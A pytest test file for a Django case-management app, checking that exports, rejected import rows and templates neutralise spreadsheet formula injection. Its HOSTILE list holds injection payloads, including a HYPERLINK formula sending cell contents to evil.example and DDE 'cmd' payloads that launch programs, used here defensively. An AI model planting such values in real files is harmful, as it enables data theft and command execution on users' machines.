"""No file the app writes runs anything when opened: every exporter, the rejected rows, the templates.

Each hostile value goes in through a real record or a real partner file and comes out as text a spreadsheet
shows and never runs (a leading apostrophe); phones, numbers and dates come out unharmed, XLSX dates as dates.
"""
import csv
import datetime
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cases.models import FollowUp
from common.spreadsheets import FORMULA_START
from imports.models import ImportBatch
from tests.exports.test_exports import MODELS, export
from tests.factories import AgencyFactory, EmployerFactory, PersonFactory, PlacementFactory, ReferralFactory
from tests.imports.conftest import ENGLISH_HEADER, as_records, csv_bytes, person_row, xlsx_bytes

HOSTILE = ['=1+2', '==HYPERLINK("http://evil.example/?q="&A1,"Άνοιξε")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"]
PHONE = "+306971234567"


def _runnable(value) -> bool:
    """Would a spreadsheet run this cell? (Text starting like a formula, not a plain signed number.)"""
    return isinstance(value, str) and value.startswith(FORMULA_START) and not value.lstrip("+-").replace(" ", "").isdigit()


def _shown_as_text(cells) -> bool:
    """Did some hostile value come out with its apostrophe (the file holds one in every model's export)?"""
    return any(isinstance(c, str) and c[:1] == "'" and c[1:2] in "=+-@\t\r" for c in cells)


@pytest.fixture
def hostile_records(db):
    person = PersonFactory(last_name=HOSTILE[0], first_name=HOSTILE[1], father_name=HOSTILE[2], phone=PHONE)
    placement = PlacementFactory(case__person=person, employer=EmployerFactory(name=HOSTILE[3]))
    FollowUp.objects.create(placement=placement, months=1, due_on=placement.start_date, notes=HOSTILE[4])
    ReferralFactory(person=person, agency_ref=HOSTILE[5], reason=HOSTILE[6])


@pytest.mark.parametrize("model", MODELS)
def test_every_export_neutralises_formulas_and_keeps_phones_and_dates(client, supervisor, hostile_records, model):
    client.force_login(supervisor)
    rows = list(csv.reader(io.StringIO(export(client, model, "0").body.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if _runnable(c)]
    book = openpyxl.load_workbook(io.BytesIO(export(client, model, "1").body))
    xlsx = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert not [c.value for c in xlsx if c.data_type == "f" or _runnable(c.value)]
    assert _shown_as_text(cells) and _shown_as_text([c.value for c in xlsx])
    if model == "person":
        assert PHONE in cells and PHONE in {c.value for c in xlsx}  # text, unharmed
        assert any(isinstance(c.value, datetime.datetime) for c in xlsx)  # a date stays a date


def test_rejected_rows_come_back_neutralised_in_csv_and_xlsx(client, intake_officer):
    client.force_login(intake_officer)
    agency = AgencyFactory()
    bad = person_row(1, consent="Όχι", reason=HOSTILE[1], father_name=HOSTILE[2], email=HOSTILE[4])
    upload = reverse("admin:imports_importbatch_upload")
    for name, content in (("refs.csv", csv_bytes([bad], delimiter=";")),
                          ("refs.xlsx", xlsx_bytes(as_records([bad], ENGLISH_HEADER)))):
        client.post(upload, {"agency": agency.pk, "file": SimpleUploadedFile(name, content)})
        batch = ImportBatch.objects.latest("pk")
        assert batch.rejected_rows.count() == 1
        response = client.get(reverse("admin:imports_importbatch_rejected", args=[batch.pk]))
        if name.endswith(".csv"):
            cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";")
                     for c in row]
        else:
            sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
            assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
            cells = [c for row in sheet.values for c in row]
        assert not [c for c in cells if _runnable(c)]
        assert "'" + HOSTILE[4] in cells
        # In the partner's XLSX "==HYPERLINK…" was itself a formula, read as the value it last showed (none).
        assert ("'" + HOSTILE[1] in cells) is name.endswith(".csv")


def test_the_templates_hold_nothing_runnable(client, intake_officer):
    client.force_login(intake_officer)
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(reverse("admin:imports_importbatch_template", args=["xlsx"])).content))
    assert not [c for ws in sheet.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f" or _runnable(c.value)]
    header = client.get(reverse("admin:imports_importbatch_template", args=["csv"])).content.decode("utf-8-sig")
    assert not [c for c in header.strip().split(";") if _runnable(c)]
